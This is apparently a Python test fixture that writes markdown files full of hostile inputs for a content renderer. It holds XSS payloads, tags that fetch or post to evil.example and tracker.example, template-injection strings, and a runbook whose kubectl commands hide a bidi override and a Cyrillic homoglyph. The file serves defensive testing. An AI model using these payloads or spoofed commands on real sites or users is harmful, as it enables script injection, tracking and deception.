"""Files that nobody's content should hold, and one whose heading changes its name."""

from __future__ import annotations

import json
from pathlib import Path

from tests.text.test_markup import NO_LINK, STRIPPED

# What would open a dialog, fetch something elsewhere or run a script, if anything of it came through.
LIVE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<details open ontoggle=alert(1)><summary>s</summary>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=https://evil.example/a.mp3 autoplay></audio>",
    "<video poster=https://evil.example/p.png></video>",
    "<object data=https://evil.example/x></object>",
    "<embed src=https://evil.example/x>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import url(https://evil.example/x.css); body { background: url(https://evil.example/b.png) }</style>",
    "<div style='background: url(https://evil.example/b.png)'>x</div>",
    "<p style='position: fixed; inset: 0'>x</p>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0; url=https://evil.example/'>",
    "<form action=https://evil.example/ id=app><input name=cookie><button>x</button></form>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1) autofocus>x</a>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea><p title='</textarea><img src=x onerror=alert(1)>'>",
    "<title><p title='</title><img src=x onerror=alert(1)>'>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'>",
    "<svg></p><style><a id='</style><img src=x onerror=alert(1)>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<img src=https://tracker.example/p.gif>",
    "![x](https://tracker.example/p.gif)",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](x.png)',
    '[x](https://a.example "t\\" onmouseover=alert(1)")',
    '```js" onclick="alert(1)\ncode\n```',
    "```\n</code></pre><img src=x onerror=alert(1)>\n```",
    "`</code><img src=x onerror=alert(1)>`",
    "| a |\n| --- |\n| <img src=x onerror=alert(1)> |",
    "<img name=cookie><img name=getElementById><form name=location></form>",
]
TITLES = [
    "</title><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "]]><script>alert(1)</script>",
    "{{7*7}} ${alert(1)} {0.__class__}",
    "&lt;img src=x onerror=alert(1)&gt;",
    "javascript:alert(1)",
]
BODIES = [*LIVE, *NO_LINK, *STRIPPED]
# A word that every hostile file has, so that a search shows them all.
WORD = "quagmire"
COUNT = len(BODIES) + len(TITLES)

HOSTILE = """---
id: hostile-{number}
kind: guide
audience: public
title: {title}
---
The {word} begins.

## Of the {word}

{body}

The {word} ends.
"""
DECEIVING = """---
id: deceiving
kind: runbook
audience: public
title: "Commands that are not what they seem"
---

## Mitigation

```sh
kubectl delete pod web\u202e-1
```

## Verification

```sh
kubectl \u0430pply -f x.yml
```
"""
RENAMED = """---
id: renamed
kind: runbook
audience: public
title: "A heading with two names"
---

## Symptoms

{filling}

## {heading}

```sh
systemctl stop ingress
```
"""
OLD, NEW = "Stop the bleeding", "Shed load first"


def write(content: Path) -> None:
    content.mkdir()
    pairs = [(f"Case {number}", body) for number, body in enumerate(BODIES)] + [(title, "x") for title in TITLES]
    for number, (title, body) in enumerate(pairs):
        text = HOSTILE.format(number=number, title=json.dumps(title), word=WORD, body=body)
        (content / f"hostile-{number}.md").write_text(text)
    (content / "deceiving.md").write_text(DECEIVING)
    _renamed(content, OLD)


def rename_a_heading(content: Path) -> None:
    _renamed(content, NEW)


def _renamed(content: Path, heading: str) -> None:
    filling = "\n\n".join(f"Line {number} of what is seen." for number in range(60))
    (content / "renamed.md").write_text(RENAMED.format(heading=heading, filling=filling))
